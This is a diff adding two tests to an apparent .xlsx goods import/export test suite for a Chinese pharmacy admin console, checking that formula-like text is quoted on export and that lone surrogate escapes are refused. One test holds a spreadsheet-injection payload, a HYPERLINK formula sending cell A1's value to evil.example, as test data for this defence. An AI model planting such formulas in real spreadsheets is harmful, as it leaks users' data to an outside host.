@@ -463,6 +463,75 @@ describe('.xlsx import and export', () => {
     });
   });
 
+  it('exports text a spreadsheet would run as a formula after a quote, and imports it back unchanged', async () => {
+    // Issue 30: a goods named =HYPERLINK(...) went into the console's .xlsx as it was.
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
+    const g = await created({
+      name,
+      common_name: '+布洛芬缓释胶囊',
+      manufacturer: '@测试药业有限公司',
+      approval_no: '国药准字H20300001',
+      description: '-1 用于\t缓解疼痛',
+      base_price: 12.5,
+    });
+    const exportedSheet = async () => {
+      const res = await call('GET', '/api/admin/goods/export?q=国药准字H20300001', operations);
+      expect(res.statusCode).toBe(200);
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+      const sheet = workbook.worksheets[0];
+      const headers = (sheet.getRow(1).values as string[]).slice(1);
+      const cell = (header: string) => sheet.getRow(2).getCell(headers.indexOf(header) + 1).value;
+      return { workbook, sheet, cell };
+    };
+    const first = await exportedSheet();
+    expect(first.sheet.actualRowCount).toBe(2);
+    expect(first.cell('商品编码')).toBe(g.sku);
+    expect(first.cell('商品名称')).toBe(`'${name}`);
+    expect(first.cell('通用名')).toBe("'+布洛芬缓释胶囊");
+    expect(first.cell('生产厂家')).toBe("'@测试药业有限公司");
+    expect(first.cell('商品说明')).toBe("'-1 用于\t缓解疼痛");
+    // Numbers stay numbers; only text is quoted.
+    expect(first.cell('基础价')).toBe(12.5);
+    expect(first.cell('起订量')).toBe(1);
+
+    // The exported file imported as it is changes nothing, and exports the same again.
+    const again = await upload(
+      '/api/admin/goods/import',
+      operations,
+      Buffer.from(await first.workbook.xlsx.writeBuffer()),
+      'goods.xlsx',
+      'application/octet-stream',
+    );
+    expect(again.statusCode, again.body).toBe(200);
+    expect(again.json().data).toMatchObject({ created: 0, updated: 1 });
+    const [row] = await ctx.app.db.select().from(goods).where(eq(goods.id, g.id));
+    expect(row).toMatchObject({
+      name,
+      commonName: '+布洛芬缓释胶囊',
+      manufacturer: '@测试药业有限公司',
+      description: '-1 用于\t缓解疼痛',
+    });
+    const second = await exportedSheet();
+    expect(second.cell('商品名称')).toBe(`'${name}`);
+    expect(second.cell('商品说明')).toBe("'-1 用于\t缓解疼痛");
+  });
+
+  it('refuses a cell holding half a surrogate pair (_xD800_ in the file), naming its row and column', async () => {
+    // ExcelJS reads the OOXML escape _xD800_ back as a lone surrogate: the audit row (jsonb) refused it.
+    const { headers } = await workbookOf([]);
+    const rows = [row(31, { 商品名称: '导入测试_xD800_片' })].map((r) => headers.map((h) => r[h] ?? ''));
+    const res = await upload(
+      '/api/admin/goods/import',
+      operations,
+      (await workbookOf(rows)).bytes,
+      'g.xlsx',
+      'application/octet-stream',
+    );
+    expect(res.statusCode, res.body).toBe(422);
+    expect(res.json().data.errors['第2行 商品名称']).toEqual(['商品名称含有无法识别的字符，请删除后重试']);
+  });
+
   it('refuses a file that is not a spreadsheet, with a message', async () => {
     const res = await upload(
       '/api/admin/goods/import',
